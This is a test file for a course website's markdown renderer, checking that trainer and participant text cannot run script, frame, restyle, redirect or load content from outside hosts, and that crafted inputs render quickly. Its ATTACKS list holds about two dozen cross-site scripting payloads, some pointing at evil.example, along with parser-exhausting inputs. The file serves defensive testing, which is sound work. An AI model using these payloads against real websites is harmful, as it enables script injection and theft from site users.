"""Markdown that trainers write and that people type: what is shown and what never runs."""

import time

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from course.ui.markdown import plain_paragraphs, render_markdown, render_user_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( \x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="javascript:alert(1)">x</a>',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[x][a]",
    "<img src=x onerror=alert(1)>",
    '![x](x" onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="position:fixed;inset:0">x</p>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=p><button>x</button></form>',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="x"></object><embed src="x">',
    '<div onclick=alert(1) role="alert" tabindex="5">x</div>',
    "`<script>alert(1)</script>`",
    "<details open ontoggle=alert(1)>x</details>",
    "<<script>script>alert(1)<</script>/script>",
]
ELEMENTS = {
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "form",
    "input",
    "button",
    "base",
    "meta",
    "object",
    "embed",
    "link",
}


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Every element of the fragment as a browser would see it, with its attributes."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return [(str(node.tag), dict(node.attrib)) for node in tree.iter() if isinstance(node.tag, str)]


def assert_harmless(html: str) -> None:
    """Nothing in it runs, posts, frames, restyles or loads from elsewhere."""
    for tag, attributes in elements(html):
        assert tag not in ELEMENTS
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert (
            attributes.get("href", "").startswith(("http:", "https:", "mailto:", "tel:", "/", "#", ""))
            is True
        )
        assert "script:" not in attributes.get("href", "").lower()
        assert not attributes.get("href", "").lower().startswith("data:")
        assert attributes.get("tabindex", "0") == "0"
        assert attributes.get("role", "region") == "region"
        assert "target" not in attributes


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_survives(text: str) -> None:
    """From a trainer's file as from a participant's text."""
    assert_harmless(render_markdown(text))
    assert_harmless(render_user_markdown(text))


@given(st.text(alphabet="<>[]()!\"'=`*_#-|/\\&;: \nabonscript", max_size=120))
@settings(max_examples=150, deadline=None)
def test_no_text_whatever_runs(text: str) -> None:
    """Random mixtures of the characters that attacks are made of."""
    assert_harmless(render_markdown(text))
    assert_harmless(render_user_markdown(text))


def test_typed_html_is_shown_as_typed() -> None:
    """Nothing of what a person wrote vanishes, a tag included."""
    html = render_user_markdown("La balise <script>alert(1)</script> & <b>gras</b>, 2 < 3")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;gras&lt;/b&gt;" in html
    assert "2 &lt; 3" in html


def test_typed_text_keeps_its_lines_and_emphasis() -> None:
    """One press of Enter is a new line; bold, lists, quotes and tables work."""
    html = render_user_markdown("Un\nDeux\n\n**fort**\n\n- a\n- b\n\n> cité")
    assert "Un<br>" in html
    assert "<strong>fort</strong>" in html
    assert html.count("<li>") == 2
    assert "<blockquote>" in html


def test_typed_text_has_no_anchor_and_no_image() -> None:
    """Ids could catch the page's own links; an image could tell who reads."""
    html = render_user_markdown("# main\n\n![moi](/photo.png)\n\n![moi](https://evil.example/p.gif)")
    assert [a for _, a in elements(html) if "id" in a] == []
    assert [t for t, _ in elements(html) if t == "img"] == []


def test_headings_fit_under_the_page_title() -> None:
    """« # » is never a second h1, and never deeper than h6."""
    assert elements(render_markdown("# a"))[1][0] == "h2"
    assert elements(render_markdown("# a", 3))[1][0] == "h3"
    assert elements(render_markdown("##### a", 4))[1][0] == "h6"
    assert elements(render_user_markdown("# a"))[1][0] == "h4"


def test_anchors_and_links_to_them_share_a_prefix() -> None:
    """An anchor « contenu » in a text does not catch the page's skip link."""
    html = render_markdown("# Contenu\n\n[là](#contenu) et note[^1]\n\n[^1]: fin")
    ids = {a["id"] for _, a in elements(html) if "id" in a}
    links = {a["href"][1:] for _, a in elements(html) if a.get("href", "").startswith("#")}
    assert "c-contenu" in ids
    assert all(found.startswith("c-") for found in ids)
    assert links <= ids
    assert len(links) == 3


def test_two_contents_on_one_page_do_not_share_ids() -> None:
    """Two texts with the same heading and footnote can stand side by side."""
    first, second = render_markdown("# A[^1]\n\n[^1]: x"), render_markdown("# A[^1]\n\n[^1]: x", 2, "m2")
    ids = [{a["id"] for _, a in elements(html) if "id" in a} for html in (first, second)]
    assert ids[0]
    assert not ids[0] & ids[1]


def test_images_come_from_our_own_pages() -> None:
    """An address on another host, even without its scheme, is dropped; the description stays."""
    sources = {
        "/assets/carte.png": True,
        "https://evil.example/p.gif": False,
        "//evil.example/p.gif": False,
        "/\\evil.example/p.gif": False,
        "data:image/png;base64,AA": False,
    }
    for address, ours in sources.items():
        found = [a for t, a in elements(render_markdown(f"![Carte]({address})")) if t == "img"]
        assert [("src" in a, a.get("alt")) for a in found] == [(ours, "Carte")], address


def test_links_say_nothing_of_the_page_they_leave() -> None:
    """`rel` on every link, and none opens a window by surprise."""
    for render in (render_markdown, render_user_markdown):
        links = [a for t, a in elements(render("[x](https://exemple.fr) <https://a.fr>")) if t == "a"]
        assert [a["rel"] for a in links] == ["noopener noreferrer"] * 2


def test_tables_can_be_read_aloud_and_scrolled() -> None:
    """Headers have their scope, the box takes the keyboard, alignment needs no inline style."""
    html = render_markdown("Avant\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\nAprès")
    found = elements(html)
    assert [a.get("scope") for t, a in found if t == "th"] == ["col", "col"]
    assert (
        "div",
        {"class": "table-responsive", "tabindex": "0", "role": "region", "aria-label": "Tableau"},
    ) in found
    assert [a.get("class") for t, a in found if t == "td"] == [None, "text-end"]
    assert html.index("Avant") < html.index("<table") < html.index("Après")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20000,
        "[a](" * 25000,
        "![" * 50000,
        "> " * 30000 + "x",
        "[a](" * 400 + "y" * 90000,
        "mot " * 500000,
        "`a " * 30000,
    ],
    ids=["brackets", "links", "images", "quotes", "far ends", "two megabytes", "code"],
)
def test_a_text_made_to_exhaust_us_is_shown_quickly(text: str) -> None:
    """Each of these took up to a minute; now it is shown plain, whole, in a moment."""
    start = time.process_time()
    html = render_user_markdown(text)
    assert time.process_time() - start < 3
    assert_harmless(html[:10000])


def test_plain_paragraphs() -> None:
    """The fallback keeps paragraphs and lines, and escapes everything."""
    assert plain_paragraphs("a\nb\n\n<i>") == "<p>a<br>\nb</p>\n<p>&lt;i&gt;</p>"
